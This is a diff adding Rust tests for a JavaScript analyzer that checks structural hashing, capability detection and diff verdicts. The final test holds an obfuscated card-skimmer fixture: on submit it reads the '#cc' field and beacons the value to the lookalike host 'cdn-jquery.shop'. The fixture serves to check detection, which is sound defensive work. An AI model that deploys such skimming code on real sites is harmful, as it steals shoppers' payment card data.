@@ -1,0 +1,111 @@
+//! SPEC §4: "`structural_hash` is equal for two scripts that differ only in whitespace, comments,
+//! local identifier names (minifier renaming), string-literal contents and numeric-literal
+//! values; it differs when statements, expressions, operators or accessed property/global names
+//! change."
+
+use rampart_js::{Options, Verdict, analyze, diff};
+
+fn hash(src: &str) -> String {
+    let a = analyze(src, &Options::default());
+    assert!(a.parse_errors.is_empty(), "{src}: {:?}", a.parse_errors);
+    a.structural_hash
+}
+
+const BASE: &str = r#"
+// analytics loader v1
+(function (win, doc) {
+  var queue = [], started = 1700000000;
+  function track(name, value) { queue.push({ n: name, v: value, t: Date.now() - started }); }
+  win.tracker = { track: track, id: "3f9c2a1e-77b1-4c1e-9d55-0a4c0e3b8f21" };
+  doc.addEventListener("click", function (e) { track("click", e.target.id); });
+})(window, document);
+"#;
+
+#[test]
+fn whitespace_comments_locals_and_literal_values_do_not_count() {
+    let variants = [
+        // minified and renamed
+        r#"(function(a,b){var c=[],d=1800000000;function e(f,g){c.push({n:f,v:g,t:Date.now()-d})}a.tracker={track:e,id:"00000000-0000-0000-0000-000000000000"};b.addEventListener("keydown",function(h){e("x",h.target.id)})})(window,document);"#,
+        // new build id and timestamp, comments moved
+        "/* build 4242 */\n(function (win, doc) {\n var queue = [], started = 1;\n function track(name, value) { queue.push({ n: name, v: value, t: Date.now() - started }); } // q\n win.tracker = { track: track, id: 'abc' };\n doc.addEventListener('click', function (e) { track('click', e.target.id); });\n})(window, document);",
+        // quoted keys and redundant parentheses
+        r#"(function (w, d) { var q = [], s = 2; function t(n, v) { (q).push({ "n": n, "v": v, "t": (Date.now() - s) }); } w["tracker"] = { track: t, id: "x" }; d.addEventListener("click", function (e) { t("click", e.target.id); }); })(window, document);"#,
+    ];
+    let base = hash(BASE);
+    for v in variants {
+        assert_eq!(hash(v), base, "{v}");
+    }
+}
+
+#[test]
+fn statements_operators_properties_and_globals_do_count() {
+    let base = hash(BASE);
+    let changes = [
+        BASE.replace("Date.now() - started", "Date.now() + started"), // operator
+        BASE.replace("e.target.id", "e.target.value"),                // property name
+        BASE.replace("(window, document)", "(window, parent)"),       // global name
+        BASE.replace("win.tracker =", "win.tracker = win.tracker ||"), // expression
+        BASE.replace(
+            "})(window",
+            "  navigator.sendBeacon(\"/x\", queue);\n})(window",
+        ), // statement
+    ];
+    for c in changes {
+        assert_ne!(hash(&c), base, "{c}");
+    }
+}
+
+#[test]
+fn a_local_shadowing_a_global_is_not_the_global() {
+    let global = analyze("fetch('/x')", &Options::default());
+    let local = analyze("function f(fetch) { fetch('/x') }", &Options::default());
+    assert!(
+        global
+            .capabilities
+            .iter()
+            .any(|c| c.name() == "network:fetch")
+    );
+    assert!(
+        local
+            .capabilities
+            .iter()
+            .all(|c| c.name() != "network:fetch")
+    );
+}
+
+#[test]
+fn diff_verdicts_follow_the_spec() {
+    let opts = Options::default();
+    let a = analyze(BASE, &opts);
+    let same = analyze(BASE, &opts);
+    assert_eq!(diff(&a, BASE, &same, BASE).verdict, Verdict::Identical);
+    let renamed = BASE.replace("queue", "q1");
+    let b = analyze(&renamed, &opts);
+    let d = diff(&a, BASE, &b, &renamed);
+    assert_eq!((d.verdict, d.similarity), (Verdict::Trivial, 1.0));
+    let unrelated = "for (var i = 0; i < 10; i++) { console.log(i * i); }";
+    let c = analyze(unrelated, &opts);
+    let d = diff(&a, BASE, &c, unrelated);
+    assert_eq!(d.verdict, Verdict::Changed);
+    assert!(d.similarity < 0.1, "{}", d.similarity);
+}
+
+#[test]
+fn capabilities_are_found_through_obfuscated_string_arrays() {
+    // The shape of a packed Magecart skimmer: property names hidden in a hex-escaped array.
+    let src = r##"var _0x1a=["\x76\x61\x6c\x75\x65","\x71\x75\x65\x72\x79\x53\x65\x6c\x65\x63\x74\x6f\x72","\x73\x65\x6e\x64\x42\x65\x61\x63\x6f\x6e","\x73\x75\x62\x6d\x69\x74","\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x64\x6e\x2d\x6a\x71\x75\x65\x72\x79\x2e\x73\x68\x6f\x70\x2f\x6a"];
+document.addEventListener(_0x1a[3], function () {
+  var n = document[_0x1a[1]]("#cc")[_0x1a[0]];
+  navigator[_0x1a[2]](_0x1a[4], n);
+});"##;
+    let a = analyze(src, &Options::default());
+    let caps: Vec<&str> = a.capabilities.iter().map(|c| c.name()).collect();
+    for want in [
+        "network:beacon",
+        "read:form-fields",
+        "listen:submit-or-click",
+    ] {
+        assert!(caps.contains(&want), "{want} missing from {caps:?}");
+    }
+    assert!(a.domains.contains("cdn-jquery.shop"), "{:?}", a.domains);
+}
